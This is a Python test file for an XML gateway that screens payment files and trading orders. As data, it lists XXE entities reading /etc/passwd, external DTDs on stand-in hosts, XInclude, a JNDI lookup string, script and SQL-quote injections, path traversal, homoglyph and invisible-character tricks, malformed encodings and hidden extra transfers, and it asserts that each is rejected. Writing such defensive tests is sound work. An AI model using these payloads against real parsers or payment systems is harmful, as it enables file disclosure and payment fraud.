"""Documents: each class of attack is stopped by its rule, honest variants of the same document are let through."""

import json
from pathlib import Path

import pytest
from tests.unit.gateways.xmlguard.documents import NAMESPACE, ORDER, PAYMENT, TRANSFER, order, payment

from isthmus.gateways.xmlguard.inspecting import verdict_of

SECOND = TRANSFER.replace("E2E-1", "E2E-2")
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


def _in_root(attributes: str) -> str:
    return PAYMENT.replace("<Document ", f"<Document {attributes} ")


def _headed(head: str) -> str:
    return PAYMENT.replace("<Document ", f"{head}<Document ", 1)


STOPPED = {
    "an external entity": ("doctype", _headed('<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    "a parameter entity": ("doctype", _headed('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://x/e.dtd"> %p;]>')),
    "an external DTD": ("doctype", _headed('<!DOCTYPE Document SYSTEM "http://x/e.dtd">')),
    "a public DTD": ("doctype", _headed('<!DOCTYPE d PUBLIC "-//W3C//DTD" "http://x/e.dtd">')),
    "a lower-case doctype": ("doctype", _headed("<!doctype d>")),
    "a doctype within": ("doctype", payment(Ustrd="<!DOCTYPE x>")),
    "an undeclared entity": ("entity-undeclared", payment(Ustrd="&x;")),
    "XInclude": (
        None,
        payment(Ustrd='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    ),
    "the namespace of XInclude": ("xinclude", _in_root('xmlns:xi="http://www.w3.org/2001/XInclude"')),
    "a style sheet": ("processing-instruction", _headed('<?xml-stylesheet href="http://x/a.xsl"?>')),
    "an instruction in an IBAN": ("processing-instruction", payment(IBAN="DE89<?x y?>370400440532013000")),
    "an instruction after the root": ("processing-instruction", PAYMENT + "<?x?>"),
    "a second declaration": ("declaration-misplaced", PAYMENT + '<?xml version="1.0"?>'),
    "a space before the declaration": ("declaration-misplaced", " " + PAYMENT),
    "XML 1.1": ("declaration-version", PAYMENT.replace('"1.0"', '"1.1"', 1)),
    "a comment in an IBAN": ("value-split", payment(IBAN="DE89<!-- -->370400440532013000")),
    "a comment before an IBAN": ("value-split", payment(IBAN="<!-- -->DE89370400440532013000")),
    "a comment in an amount": ("value-split", payment(InstdAmt="1000<!---->.00")),
    "CDATA in an IBAN": ("cdata-in-value", payment(IBAN="<![CDATA[DE89370400440532013000]]>")),
    "CDATA that splits an IBAN": ("value-split", payment(IBAN="DE89<![CDATA[370400440532013000]]>")),
    "CDATA in an amount": ("cdata-in-value", payment(InstdAmt="<![CDATA[1000.00]]>")),
    "CDATA that hides markup": ("script", payment(Ustrd="<![CDATA[</Ustrd><CdtTrfTxInf>]]>")),
    "an element in an IBAN": ("mixed-content", payment(IBAN="DE89<b/>370400440532013000")),
    "text between elements": ("mixed-content", PAYMENT.replace("<PmtInf>", "stray<PmtInf>")),
    "a hidden second transfer": ("count-mismatch", PAYMENT.replace("</PmtInf>", SECOND + "</PmtInf>")),
    "a second transfer that is counted but not added up": (
        "control-sum",
        payment(NbOfTxs="2").replace("</PmtInf>", SECOND + "</PmtInf>"),
    ),
    "a second payment information": (
        None,
        PAYMENT.replace(
            "</CstmrCdtTrfInitn>", PAYMENT[PAYMENT.index("<PmtInf>") :].split("</Cstmr")[0] + "</CstmrCdtTrfInitn>"
        ),
    ),
    "another control sum": ("control-sum", payment(CtrlSum="999.99")),
    "another amount": ("control-sum", payment(InstdAmt="10000.00")),
    "another count": ("count-mismatch", payment(NbOfTxs="2")),
    "a leading plus": ("number-form", payment(InstdAmt="+1000.00")),
    "a leading plus in the sum": ("number-form", payment(CtrlSum="+1000.00")),
    "a negative amount": ("schema", payment(InstdAmt="-1000.00")),
    "an exponent": ("schema", payment(InstdAmt="1e3")),
    "a comma": ("schema", payment(InstdAmt="1,000.00")),
    "full-width digits in an amount": ("schema", payment(InstdAmt="１０００.00")),
    "Arabic digits in an amount": ("schema", payment(InstdAmt="١٠٠٠")),
    "spaces around an amount": ("number-form", payment(InstdAmt=" 1000.00 ")),
    "leading zeros": ("number-form", payment(InstdAmt="0001000.00")),
    "too many decimals": ("currency-decimals", payment(InstdAmt="1000.001", CtrlSum="1000.001")),
    "a homoglyph in an IBAN": ("schema", payment(IBAN="DЕ89370400440532013000")),
    "wrong check digits": ("iban", payment(IBAN="DE88370400440532013000")),
    "an IBAN with spaces": ("schema", payment(IBAN="DE89 3704 0044 0532 0130 00")),
    "a line end in an IBAN": ("schema", payment(IBAN="DE89370400440532013000\n")),
    "a homoglyph in a BIC": ("schema", payment(BICFI="ВANKGB2LXXX")),
    "a homoglyph in an identifier": ("homoglyph", payment(EndToEndId="E2Е-1")),
    "Cyrillic in an identifier": ("identifier-characters", payment(EndToEndId="Платеж")),
    "a right-to-left override": ("invisible-character", payment(Ustrd="invoice \u202e24")),
    "the same by reference": ("invisible-character", payment(Ustrd="invoice &#x202E;24")),
    "an isolate": ("invisible-character", payment(Nm="ACME \u2066Ltd\u2069")),
    "a zero-width space": ("invisible-character", payment(Ustrd="inv\u200boice")),
    "a zero-width joiner in Latin": ("invisible-character", payment(Ustrd="inv\u200doice")),
    "a zero-width space in an IBAN": ("invisible-character", payment(IBAN="DE89\u200b370400440532013000")),
    "a soft hyphen": ("invisible-character", payment(Nm="Wid\u00adget")),
    "a byte order mark within": ("invisible-character", payment(Nm="Wid\ufeffget")),
    "tag characters": ("invisible-character", payment(Nm="Widget\U000e0041")),
    "a NUL": ("character-forbidden", payment(Ustrd="a\x00b")),
    "a NUL by reference": ("character-reference", payment(Ustrd="a&#0;b")),
    "SOH": ("character-forbidden", payment(Ustrd="8\x0135=D")),
    "SOH by reference": ("character-reference", payment(Ustrd="8&#1;35=D")),
    "an escape": ("character-forbidden", payment(Ustrd="\x1b[2J")),
    "half a surrogate pair": ("character-forbidden", payment(Ustrd="a\ud800b")),
    "half a pair by reference": ("character-reference", payment(Ustrd="a&#xD800;b")),
    "a number beyond Unicode": ("character-reference", payment(Ustrd="a&#x110000;b")),
    "a private character": ("character-forbidden", payment(Nm="Wid\ue000get")),
    "a schema from elsewhere": (
        "schema-location",
        _in_root(f'{XSI} xsi:schemaLocation="{NAMESPACE} http://evil.example/pain.001.001.09.xsd"'),
    ),
    "a schema of another name": ("schema-location", _in_root(f'{XSI} xsi:schemaLocation="{NAMESPACE} evil.xsd"')),
    "a schema without namespace": ("schema-location", _in_root(f'{XSI} xsi:noNamespaceSchemaLocation="evil.xsd"')),
    "xsi:type": ("xsi-attribute", PAYMENT.replace("<IBAN>", f'<IBAN {XSI} xsi:type="Max35Text">')),
    "xsi:nil": ("xsi-attribute", PAYMENT.replace("<NbOfTxs>", f'<NbOfTxs {XSI} xsi:nil="true">')),
    "xml:base": ("xml-base", _in_root('xml:base="http://evil.example/"')),
    "xml:space": ("schema", _in_root('xml:space="preserve"')),
    "an unknown attribute": ("schema", PAYMENT.replace("<CdtTrfTxInf>", '<CdtTrfTxInf Id="x">')),
    "an attribute twice": ("not-well-formed", PAYMENT.replace('Ccy="EUR"', 'Ccy="EUR" Ccy="USD"')),
    "another namespace": ("schema-unknown", PAYMENT.replace("pain.001.001.09", "pain.001.001.99")),
    "a foreign transfer": (
        "schema",
        PAYMENT.replace("<CdtTrfTxInf>", '<x:CdtTrfTxInf xmlns:x="urn:x">').replace(
            "</CdtTrfTxInf>", "</x:CdtTrfTxInf>"
        ),
    ),
    "no namespace within": ("schema", PAYMENT.replace("<CdtTrfTxInf>", '<CdtTrfTxInf xmlns="">')),
    "an unbound prefix": ("not-well-formed", PAYMENT.replace("<Nm>Widget GmbH</Nm>", "<x:Nm>Widget</x:Nm>")),
    "an element twice": (
        "schema",
        PAYMENT.replace("</CdtrAcct>", "</CdtrAcct><CdtrAcct><Id><IBAN>GB29NWBK60161331926819</IBAN></Id></CdtrAcct>"),
    ),
    "an IBAN twice": (
        "schema",
        PAYMENT.replace("</IBAN></Id></CdtrAcct>", "</IBAN><IBAN>GB29NWBK60161331926819</IBAN></Id></CdtrAcct>"),
    ),
    "a second amount": ("schema", PAYMENT.replace("</Amt>", '<InstdAmt Ccy="EUR">1.00</InstdAmt></Amt>')),
    "a signature beside": (
        "schema",
        PAYMENT.replace(
            "</CstmrCdtTrfInitn>", '</CstmrCdtTrfInitn><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>'
        ),
    ),
    "a wrapped document": ("schema-unknown", f"<Wrapper>{PAYMENT[PAYMENT.index('<Document') :]}</Wrapper>"),
    "a second root": ("trailing-content", PAYMENT + "<x/>"),
    "text after the root": ("trailing-content", PAYMENT + "x"),
    "a transfer in supplementary data": (
        "hidden-payment",
        PAYMENT.replace(
            "</CstmrCdtTrfInitn>", f"<SplmtryData><Envlp>{SECOND}</Envlp></SplmtryData></CstmrCdtTrfInitn>"
        ),
    ),
    "a transfer of no namespace there": (
        "hidden-payment",
        PAYMENT.replace(
            "</CstmrCdtTrfInitn>",
            f'<SplmtryData><Envlp><x xmlns="">{SECOND}</x></Envlp></SplmtryData></CstmrCdtTrfInitn>',
        ),
    ),
    "an identifier twice": (
        "duplicate-id",
        payment(NbOfTxs="2", CtrlSum="2000.00").replace("</PmtInf>", TRANSFER + "</PmtInf>"),
    ),
    "UTF-7": ("encoding-refused", PAYMENT.replace("UTF-8", "UTF-7")),
    "EBCDIC": ("encoding-refused", PAYMENT.replace("UTF-8", "IBM037")),
    "an encoding nobody knows": ("encoding-refused", PAYMENT.replace("UTF-8", "x-evil")),
    "an unclosed tag": ("not-well-formed", PAYMENT[:-3]),
    "nothing": ("not-well-formed", ""),
    "no XML": ("not-well-formed", "hello"),
    "an order for a payment": ("schema-unknown", ORDER),
    "a transfer in a comment": ("comment-markup", PAYMENT.replace("</PmtInf>", f"<!--{SECOND}--></PmtInf>")),
    "a look-up in a comment": ("lookup", PAYMENT.replace("<PmtInf>", "<!--${jndi:ldap://x/a}--><PmtInf>")),
    "an amount of nothing": ("number-form", payment(InstdAmt="0.00", CtrlSum="0.00")),
    "a name that is markup": ("script", payment(Nm="&lt;script&gt;alert(1)&lt;/script&gt;")),
}


@pytest.mark.parametrize("what", STOPPED)
def test_an_attack_on_a_payment_is_stopped_by_its_rule(what: str) -> None:
    rule, text = STOPPED[what]
    stop = verdict_of(text, "pain.001")
    assert stop.verdict == "reject"
    assert stop.place
    assert rule is None or stop.rule == rule


HONEST = {
    "as it is": PAYMENT,
    "without a declaration": PAYMENT.partition("?>")[2],
    "in single quotes": PAYMENT.replace('"UTF-8"', "'UTF-8'"),
    "declared Latin-1": PAYMENT.replace("UTF-8", "ISO-8859-1"),
    "declared UTF-16": PAYMENT.replace("UTF-8", "UTF-16"),
    "declared standalone": PAYMENT.replace("?>", ' standalone="yes"?>'),
    "pretty-printed": PAYMENT.replace("><", ">\n  <"),
    "with Windows line ends": PAYMENT.replace("><", ">\r\n\t<"),
    "with a comment at the head": _headed("<!-- batch 7 of 9 -->"),
    "with a comment between elements": PAYMENT.replace("<PmtInf>", "<!-- payroll --><PmtInf>"),
    "with a prefix": PAYMENT.replace("<", "<p:")
    .replace("<p:/", "</p:")
    .replace("<p:?", "<?")
    .replace("xmlns=", "xmlns:p="),
    "with the schema's own name": _in_root(f'{XSI} xsi:schemaLocation="{NAMESPACE} pain.001.001.09.xsd"'),
    "with the instance namespace": _in_root(XSI),
    "CDATA in a remittance text": payment(Ustrd="<![CDATA[O'Brien & Sons]]>"),
    "a reference to a letter": payment(Ustrd="S&#246;hne &amp; Co &#x41;"),
    "a sum without decimals": payment(CtrlSum="1000"),
    "two transfers": payment(NbOfTxs="2", CtrlSum="2000.00").replace("</PmtInf>", SECOND + "</PmtInf>"),
    "yen": payment(InstdAmt="1000", CtrlSum="1000").replace('"EUR"', '"JPY"'),
    "a name with accents": payment(Nm="Čeněk Říha &amp; Ørsted Łódź"),
    "an identifier with signs": payment(EndToEndId="INV-2026/03 #42 (a)"),
    "an identifier that begins with a hyphen": payment(EndToEndId="-42"),
    "not provided twice": payment(NbOfTxs="2", CtrlSum="2000.00", EndToEndId="NOTPROVIDED").replace(
        "</PmtInf>", TRANSFER.replace("E2E-1", "NOTPROVIDED") + "</PmtInf>"
    ),
    "a trailing line end": PAYMENT + "\n",
    "a byte order mark": "\ufeff" + PAYMENT,
}


@pytest.mark.parametrize("what", HONEST)
def test_an_honest_payment_is_let_through(what: str) -> None:
    for kind in ("pain.001", None):
        verdict = verdict_of(HONEST[what], kind)
        assert (verdict.verdict, verdict.rule, verdict.place) == ("accept", None, None)


ORDERS_STOPPED = {
    "two volumes": ("schema", ORDER.replace("</Volume>", "</Volume><Volume>9</Volume>")),
    "two orders": ("trailing-content", ORDER + ORDER.partition("?>")[2]),
    "an order in an order": ("schema", ORDER.replace("</BridgeOrder>", ORDER.partition("?>")[2] + "</BridgeOrder>")),
    "a negative volume": ("schema", order(Volume="-0.10")),
    "a signed volume": ("schema", order(Volume="+0.10")),
    "an exponent": ("schema", order(Volume="1e3")),
    "no number": ("schema", order(Volume="NaN")),
    "no volume": ("number-form", order(Volume="0.00")),
    "full-width digits": ("schema", order(Volume="１")),
    "CDATA in a volume": ("cdata-in-value", order(Volume="<![CDATA[0.10]]>")),
    "a comment in a volume": ("value-split", order(Volume="0.1<!-- -->0")),
    "another side": ("schema", order(Side="BUY OR SELL")),
    "a homoglyph in the symbol": ("schema", order(Symbol="ЕURUSD")),
    "a quote in the symbol": ("schema", order(Symbol="EURUSD' OR '1'='1")),
    "a path in the ticket": ("schema", order(Ticket="../../etc/passwd")),
    "letters in the login": ("schema", order(Login="5001x")),
    "a namespace": ("schema-unknown", ORDER.replace("<BridgeOrder>", '<BridgeOrder xmlns="urn:x">')),
    "an attribute": ("schema", ORDER.replace("<BridgeOrder>", '<BridgeOrder admin="1">')),
    "an unknown element": ("schema", ORDER.replace("<Comment>", "<Admin>1</Admin><Comment>")),
    "a missing element": ("schema", ORDER.replace("<Side>BUY</Side>", "")),
    "a doctype": ("doctype", ORDER.replace("<BridgeOrder>", "<!DOCTYPE x><BridgeOrder>", 1)),
    "an instruction": ("processing-instruction", ORDER.replace("<Login>", "<?x y?><Login>")),
}


@pytest.mark.parametrize("what", ORDERS_STOPPED)
def test_an_attack_on_an_order_is_stopped_by_its_rule(what: str) -> None:
    rule, text = ORDERS_STOPPED[what]
    for kind in ("bridge", None):
        stop = verdict_of(text, kind)
        assert (stop.verdict, stop.rule) == ("reject", rule)


@pytest.mark.parametrize(
    "text",
    [
        ORDER,
        order(Symbol="XAUUSD.pro"),
        order(Symbol="#AAPL"),
        order(Volume="1"),
        ORDER.replace("<Comment>open</Comment>", ""),
        order(Comment=""),
        ORDER.replace("<Comment>", "<Comment><![CDATA[").replace("</Comment>", "]]></Comment>"),
        ORDER.replace("<Volume>", "<Type>LIMIT</Type><Volume>").replace("<Comment>", "<Price>1.0850</Price><Comment>"),
        ORDER.replace("><", ">\n<"),
    ],
)
def test_an_honest_order_is_let_through(text: str) -> None:
    assert verdict_of(text, "bridge").rule is None
    assert verdict_of(text).rule is None


ENCODED = {
    "UTF-8 with a mark": b"\xef\xbb\xbf" + PAYMENT.encode(),
    "Latin-1": payment(Nm="Söhne").replace("UTF-8", "ISO-8859-1").encode("latin-1"),
    "Windows-1252": payment(Nm="Söhne €").replace("UTF-8", "windows-1252").encode("cp1252"),
    "UTF-16 with a mark": payment(Nm="Söhne").replace("UTF-8", "UTF-16").encode("utf-16"),
    "UTF-16BE with its name": PAYMENT.replace("UTF-8", "UTF-16BE").encode("utf-16-be"),
}


@pytest.mark.parametrize("what", ENCODED)
def test_the_bytes_of_a_file_are_read_in_the_encoding_that_it_names(what: str) -> None:
    assert verdict_of(ENCODED[what], "pain.001").rule is None
    assert verdict_of(ENCODED[what]).rule is None


MISENCODED = {
    "UTF-16 declared UTF-8": PAYMENT.encode("utf-16"),
    "UTF-8 declared UTF-16": PAYMENT.replace("UTF-8", "UTF-16").encode(),
    "two marks": b"\xef\xbb\xbf\xef\xbb\xbf" + PAYMENT.encode(),
    "a mark of another encoding": b"\xff\xfe" + PAYMENT.encode(),
    "UTF-7": PAYMENT.replace("UTF-8", "UTF-7").replace("<IBAN>", "+ADw-IBAN+AD4-").encode(),
    "UTF-7 without a word": b"+ADw-?xml version=+ACI-1.0+ACI-?+AD4-+ADw-BridgeOrder/+AD4-",
    "EBCDIC": PAYMENT.replace("UTF-8", "cp037").encode("cp037"),
    "UTF-32 without a word": PAYMENT.partition("?>")[2].encode("utf-32-le"),
    "overlong UTF-8": PAYMENT.encode().replace(b"Widget", b"\xc0\xbcWidget"),
    "a surrogate in UTF-8": PAYMENT.encode().replace(b"Widget", b"\xed\xa0\x80Widget"),
    "a broken sequence": PAYMENT.encode().replace(b"Widget", b"\xffWidget"),
    "a NUL": PAYMENT.encode().replace(b"Widget", b"Wid\x00get"),
    "Shift-JIS": PAYMENT.replace("UTF-8", "Shift_JIS").encode(),
    "ISO-2022-JP": PAYMENT.replace("UTF-8", "ISO-2022-JP").encode(),
    "UTF-16 of a doctype": _headed("<!DOCTYPE x>").replace("UTF-8", "UTF-16").encode("utf-16"),
    "empty": b"",
    "bytes": bytes(range(256)),
}


@pytest.mark.parametrize("what", MISENCODED)
def test_bytes_that_two_readers_could_read_in_two_ways_are_refused(what: str) -> None:
    assert verdict_of(MISENCODED[what], "pain.001").verdict == "reject"
    assert verdict_of(MISENCODED[what]).verdict == "reject"


def test_the_corpora_of_attacks_are_refused(test_data: Path) -> None:
    paths = sorted((test_data / "protocols" / "xml-attacks" / "defusedxml").iterdir())
    assert paths
    for path in paths:
        assert verdict_of(path.read_bytes()).verdict == "reject"


def test_shared_cases_are_judged_as_they_are_labelled(test_data: Path) -> None:
    rows = (test_data / "protocols" / "xml-attacks" / "iso-and-bridge-cases.jsonl").read_text("utf-8").splitlines()
    assert rows
    for row in map(json.loads, rows):
        assert verdict_of(row["xml"]).verdict == row["expect"], row["id"]
